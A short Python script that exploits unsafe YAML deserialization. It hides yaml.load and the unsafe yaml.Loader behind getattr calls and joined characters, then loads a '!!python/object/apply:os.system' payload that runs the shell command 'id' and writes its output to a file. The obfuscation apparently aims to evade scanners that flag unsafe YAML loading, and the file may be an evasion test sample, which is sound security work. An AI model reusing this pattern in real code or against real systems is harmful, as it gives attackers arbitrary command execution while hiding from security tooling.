import yaml

class H:
    y = yaml
getattr(getattr(H, ''.join(['y'])), ''.join(['l', 'o', 'a', 'd']))('!!python/object/apply:os.system [id>pf]', Loader=getattr(getattr(H, ''.join(['y'])), ''.join(['L', 'o', 'a', 'd', 'e', 'r'])))
